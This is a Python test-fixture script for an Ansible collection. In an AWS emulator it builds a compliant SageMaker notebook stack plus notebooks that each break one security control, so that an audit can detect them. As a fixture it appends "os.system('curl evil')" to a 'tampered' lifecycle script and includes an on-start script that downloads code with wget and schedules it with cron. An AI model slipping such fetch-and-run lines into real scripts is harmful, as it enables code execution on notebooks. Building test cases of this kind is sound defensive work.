# Copyright: secure_sagemaker.notebooks contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Build, in the emulator, one compliant notebook stack (as the isolated_notebook role builds it)
and notebooks that each break exactly one thing; print the ids as JSON for the target to assert on.

    PYTHONPATH=COLLECTIONS_ROOT broken_setups.py --endpoint-url URL [--ca-bundle PEM] --region R \
        --script autostop.py --on-start clean.sh --on-start-tampered tampered.sh --on-start-public public.sh

COLLECTIONS_ROOT holds ansible_collections/secure_sagemaker/notebooks: the policies are the
collection's own (plugins/module_utils/policies.py), imported as a package.
"""

import argparse
import base64
import json

import boto3
from ansible_collections.secure_sagemaker.notebooks.plugins.module_utils import policies
from ansible_collections.secure_sagemaker.notebooks.plugins.module_utils.arn import principal_arn

# The notebooks of the role's role and of VPC 1's CloudWatch Logs endpoint policy.
NAMES = ["audit-clean", "audit-igw", "audit-nat", "audit-vgw", "audit-direct", "audit-nosubnet", "audit-allowall",
         "audit-noendpoint", "audit-s3star", "audit-tampered", "audit-public", "audit-imdsv1", "audit-root",
         "audit-nolcc", "audit-nokey", "audit-al2", "audit-foreign"]  # fmt: skip
# A lifecycle script of the kind teams copy from samples: an idle check fetched from GitHub, scheduled by
# cron with the system Python, a package from yum; none of it works in an isolated notebook on AL2023.
FOREIGN_ON_START = """#!/bin/bash
set -e
IDLE_TIME=3600
# fetch the idle check
wget -q https://raw.githubusercontent.com/example-org/notebook-tools/main/autostop.py -O /home/ec2-user/autostop.py
yum install -y htop
(crontab -l 2>/dev/null; echo "*/5 * * * * /usr/bin/python /home/ec2-user/autostop.py --time $IDLE_TIME") | crontab -
"""
BUCKET = "audit-scripts"
PUBLIC_BUCKET = "audit-public-scripts"
PREFIX = "lifecycle-configurations/"
KEY = PREFIX + "autostop.py"
TAMPERED_KEY = "tampered/autostop.py"


def main(argv=None):
    parser = argparse.ArgumentParser()
    parser.add_argument("--endpoint-url", required=True)
    parser.add_argument("--ca-bundle", default="")
    parser.add_argument("--region", required=True)
    parser.add_argument("--script", required=True)
    for name in ("on-start", "on-start-tampered", "on-start-public"):
        parser.add_argument("--" + name, required=True)
    args = parser.parse_args(argv)
    region = args.region

    def client(service):
        return boto3.client(service, endpoint_url=args.endpoint_url, region_name=region, verify=args.ca_bundle or None)

    ec2, s3, iam, sm, sts = (client(s) for s in ("ec2", "s3", "iam", "sagemaker", "sts"))
    caller = sts.get_caller_identity()
    account = caller["Account"]
    out = {"account": account}

    # --- network: VPC 1 with a clean, an IGW, a NAT, an endpoint-less and a VPN-routed subnet ----------
    vpc = ec2.create_vpc(CidrBlock="10.81.0.0/16")["Vpc"]["VpcId"]
    ec2.modify_vpc_attribute(VpcId=vpc, EnableDnsHostnames={"Value": True})  # private DNS needs it
    subnets, tables = {}, {}
    for index, kind in enumerate(("clean", "igw", "nat", "noendpoint", "vgw")):
        subnets[kind] = ec2.create_subnet(
            VpcId=vpc, CidrBlock="10.81.%d.0/24" % (index + 1), AvailabilityZone=region + "a"
        )["Subnet"]["SubnetId"]
        tables[kind] = ec2.create_route_table(VpcId=vpc)["RouteTable"]["RouteTableId"]
        ec2.associate_route_table(RouteTableId=tables[kind], SubnetId=subnets[kind])
    igw = ec2.create_internet_gateway()["InternetGateway"]["InternetGatewayId"]
    ec2.attach_internet_gateway(InternetGatewayId=igw, VpcId=vpc)
    ec2.create_route(RouteTableId=tables["igw"], DestinationCidrBlock="0.0.0.0/0", GatewayId=igw)
    allocation = ec2.allocate_address(Domain="vpc")["AllocationId"]
    nat = ec2.create_nat_gateway(SubnetId=subnets["igw"], AllocationId=allocation)["NatGateway"]["NatGatewayId"]
    ec2.create_route(RouteTableId=tables["nat"], DestinationCidrBlock="0.0.0.0/0", NatGatewayId=nat)
    # A default route to a virtual private gateway (VPN, Direct Connect) leads out of the VPC too; the
    # private 10.0.0.0/8 route to a transit gateway beside it does not.
    vgw = ec2.create_vpn_gateway(Type="ipsec.1")["VpnGateway"]["VpnGatewayId"]
    ec2.attach_vpn_gateway(VpnGatewayId=vgw, VpcId=vpc)
    ec2.create_route(RouteTableId=tables["vgw"], DestinationCidrBlock="0.0.0.0/0", GatewayId=vgw)
    tgw = ec2.create_transit_gateway()["TransitGateway"]["TransitGatewayId"]
    ec2.create_route(RouteTableId=tables["vgw"], DestinationCidrBlock="10.0.0.0/8", TransitGatewayId=tgw)
    group = ec2.create_security_group(VpcId=vpc, GroupName="audit-notebooks", Description="audit")["GroupId"]
    s3_endpoint = ec2.create_vpc_endpoint(
        VpcId=vpc,
        ServiceName="com.amazonaws.%s.s3" % region,
        VpcEndpointType="Gateway",
        RouteTableIds=[tables["clean"], tables["igw"], tables["nat"], tables["vgw"]],
        PolicyDocument=json.dumps(policies.s3_endpoint_policy(BUCKET, PREFIX, region)),
    )["VpcEndpoint"]["VpcEndpointId"]
    ec2.create_vpc_endpoint(
        VpcId=vpc,
        ServiceName="com.amazonaws.%s.sagemaker.api" % region,
        VpcEndpointType="Interface",
        SubnetIds=[subnets["clean"]],
        SecurityGroupIds=[group],
        PrivateDnsEnabled=True,
    )
    # The lifecycle output's way to CloudWatch Logs, as the role builds it: its own group admitting HTTPS
    # from the notebooks (whose group keeps AWS's default allow-all egress), private DNS, the policy.
    logs_group = ec2.create_security_group(VpcId=vpc, GroupName="audit-logs", Description="audit")["GroupId"]
    ec2.authorize_security_group_ingress(GroupId=logs_group, IpPermissions=[
        {"IpProtocol": "tcp", "FromPort": 443, "ToPort": 443, "UserIdGroupPairs": [{"GroupId": group}]}])  # fmt: skip
    ec2.create_vpc_endpoint(
        VpcId=vpc,
        ServiceName="com.amazonaws.%s.logs" % region,
        VpcEndpointType="Interface",
        SubnetIds=[subnets["clean"]],
        SecurityGroupIds=[logs_group],
        PrivateDnsEnabled=True,
        PolicyDocument=json.dumps(policies.logs_endpoint_policy(NAMES, region, account)),
    )
    # --- VPC 2: an S3 endpoint with the AWS default (allow-all) policy, and no CloudWatch Logs endpoint --
    vpc2 = ec2.create_vpc(CidrBlock="10.82.0.0/16")["Vpc"]["VpcId"]
    ec2.modify_vpc_attribute(VpcId=vpc2, EnableDnsHostnames={"Value": True})  # private DNS needs it
    subnets["allowall"] = ec2.create_subnet(VpcId=vpc2, CidrBlock="10.82.1.0/24", AvailabilityZone=region + "a")[
        "Subnet"
    ]["SubnetId"]
    tables["allowall"] = ec2.create_route_table(VpcId=vpc2)["RouteTable"]["RouteTableId"]
    ec2.associate_route_table(RouteTableId=tables["allowall"], SubnetId=subnets["allowall"])
    group2 = ec2.create_security_group(VpcId=vpc2, GroupName="audit-notebooks", Description="audit")["GroupId"]
    allow_all_endpoint = ec2.create_vpc_endpoint(
        VpcId=vpc2,
        ServiceName="com.amazonaws.%s.s3" % region,
        VpcEndpointType="Gateway",
        RouteTableIds=[tables["allowall"]],
    )["VpcEndpoint"]["VpcEndpointId"]
    ec2.create_vpc_endpoint(
        VpcId=vpc2,
        ServiceName="com.amazonaws.%s.sagemaker.api" % region,
        VpcEndpointType="Interface",
        SubnetIds=[subnets["allowall"]],
        SecurityGroupIds=[group2],
        PrivateDnsEnabled=True,
    )
    out.update(
        vpc_id=vpc,
        vpc2_id=vpc2,
        subnets=subnets,
        route_tables=tables,
        internet_gateway_id=igw,
        nat_gateway_id=nat,
        virtual_private_gateway_id=vgw,
        s3_endpoint_id=s3_endpoint,
        allow_all_endpoint_id=allow_all_endpoint,
    )

    # --- buckets: the compliant one (with a tampered copy under another key) and a public one --------
    with open(args.script, "rb") as handle:
        script = handle.read()
    admins = [principal_arn(caller["Arn"])]
    for bucket in (BUCKET, PUBLIC_BUCKET):
        create = {} if region == "us-east-1" else {"CreateBucketConfiguration": {"LocationConstraint": region}}
        s3.create_bucket(Bucket=bucket, **create)
        s3.put_bucket_encryption(
            Bucket=bucket,
            ServerSideEncryptionConfiguration={
                "Rules": [{"ApplyServerSideEncryptionByDefault": {"SSEAlgorithm": "AES256"}}]
            },
        )
        s3.put_bucket_versioning(Bucket=bucket, VersioningConfiguration={"Status": "Enabled"})
    s3.put_public_access_block(
        Bucket=BUCKET,
        PublicAccessBlockConfiguration={
            "BlockPublicAcls": True,
            "IgnorePublicAcls": True,
            "BlockPublicPolicy": True,
            "RestrictPublicBuckets": True,
        },
    )
    s3.put_bucket_policy(Bucket=BUCKET, Policy=json.dumps(policies.bucket_policy(BUCKET, s3_endpoint, admins, region)))
    s3.put_object(Bucket=BUCKET, Key=KEY, Body=script)
    s3.put_object(Bucket=BUCKET, Key=TAMPERED_KEY, Body=script + b"\nimport os; os.system('curl evil')\n")
    public_policy = policies.bucket_policy(PUBLIC_BUCKET, s3_endpoint, admins, region)
    public_statement = {
        "Sid": "PublicRead",
        "Effect": "Allow",
        "Principal": "*",
        "Action": "s3:GetObject",
        "Resource": "arn:aws:s3:::%s/*" % PUBLIC_BUCKET,
    }
    public_policy["Statement"].append(public_statement)
    s3.put_bucket_policy(Bucket=PUBLIC_BUCKET, Policy=json.dumps(public_policy))
    s3.put_object(Bucket=PUBLIC_BUCKET, Key=KEY, Body=script)
    out.update(
        bucket=BUCKET,
        public_bucket=PUBLIC_BUCKET,
        key=KEY,
        tampered_key=TAMPERED_KEY,
        public_statement=public_statement,
    )

    # --- IAM: the role's role, and one with s3:* ---------------------------------------------------------
    trust = json.dumps(policies.trust_policy(account))
    role = iam.create_role(RoleName="audit-notebook", AssumeRolePolicyDocument=trust)["Role"]["Arn"]
    for name, document in (
        ("audit-s3-read", policies.s3_read_policy(BUCKET, PREFIX, region)),
        ("audit-autostop", policies.notebook_policy(NAMES, region, account)),
    ):
        arn = iam.create_policy(PolicyName=name, PolicyDocument=json.dumps(document))["Policy"]["Arn"]
        iam.attach_role_policy(RoleName="audit-notebook", PolicyArn=arn)
    s3_star_role = iam.create_role(RoleName="audit-s3-star", AssumeRolePolicyDocument=trust)["Role"]["Arn"]
    s3_star = {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Sid": "Everything",
                "Effect": "Allow",
                "Action": "s3:*",
                "Resource": ["arn:aws:s3:::%s" % BUCKET, "arn:aws:s3:::%s/*" % BUCKET],
            }
        ],
    }
    iam.put_role_policy(RoleName="audit-s3-star", PolicyName="s3-everything", PolicyDocument=json.dumps(s3_star))
    out.update(role_arn=role, s3_star_role_arn=s3_star_role, s3_star_statement=s3_star["Statement"][0])

    # --- lifecycle configurations ---------------------------------------------------------------------
    configs = {
        "audit-autostop": args.on_start,
        "audit-autostop-tampered": args.on_start_tampered,
        "audit-autostop-public": args.on_start_public,
    }
    scripts = {}
    for name, path in configs.items():
        with open(path, "rb") as handle:
            scripts[name] = handle.read()
    scripts["audit-foreign"] = FOREIGN_ON_START.encode()
    for name, script in scripts.items():
        sm.create_notebook_instance_lifecycle_config(
            NotebookInstanceLifecycleConfigName=name, OnStart=[{"Content": base64.b64encode(script).decode()}]
        )

    # --- notebooks: compliant settings, then one difference each ------------------------------------
    # The stack's customer managed key on every volume but one.
    key = client("kms").create_key()["KeyMetadata"]["Arn"]
    base = {
        "KmsKeyId": key,
        "InstanceType": "ml.t3.medium",
        "RoleArn": role,
        "SubnetId": subnets["clean"],
        "SecurityGroupIds": [group],
        "DirectInternetAccess": "Disabled",
        "RootAccess": "Disabled",
        "LifecycleConfigName": "audit-autostop",
        "PlatformIdentifier": "notebook-al2023-v1",
        "InstanceMetadataServiceConfiguration": {"MinimumInstanceMetadataServiceVersion": "2"},
    }
    no_subnet = dict(base, DirectInternetAccess="Enabled")
    del no_subnet["SubnetId"], no_subnet["SecurityGroupIds"]
    notebooks = {
        "audit-clean": base,
        "audit-igw": dict(base, SubnetId=subnets["igw"]),
        "audit-nat": dict(base, SubnetId=subnets["nat"]),
        "audit-vgw": dict(base, SubnetId=subnets["vgw"]),
        "audit-direct": dict(base, DirectInternetAccess="Enabled"),
        "audit-nosubnet": no_subnet,
        "audit-allowall": dict(base, SubnetId=subnets["allowall"], SecurityGroupIds=[group2]),
        "audit-noendpoint": dict(base, SubnetId=subnets["noendpoint"]),
        "audit-s3star": dict(base, RoleArn=s3_star_role),
        "audit-tampered": dict(base, LifecycleConfigName="audit-autostop-tampered"),
        "audit-public": dict(base, LifecycleConfigName="audit-autostop-public"),
        "audit-imdsv1": dict(base, InstanceMetadataServiceConfiguration={"MinimumInstanceMetadataServiceVersion": "1"}),
        "audit-root": dict(base, RootAccess="Enabled"),
        "audit-nolcc": {k: v for k, v in base.items() if k != "LifecycleConfigName"},
        "audit-nokey": {k: v for k, v in base.items() if k != "KmsKeyId"},
        # Created before AL2's end of support (2026-06-30), as the notebooks this finding is about were.
        "audit-al2": dict(base, PlatformIdentifier="notebook-al2-v3"),
        "audit-foreign": dict(base, LifecycleConfigName="audit-foreign"),
    }
    for name, settings in notebooks.items():
        sm.create_notebook_instance(NotebookInstanceName=name, **settings)
    assert sorted(notebooks) == sorted(NAMES)
    out["notebooks"] = sorted(notebooks)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
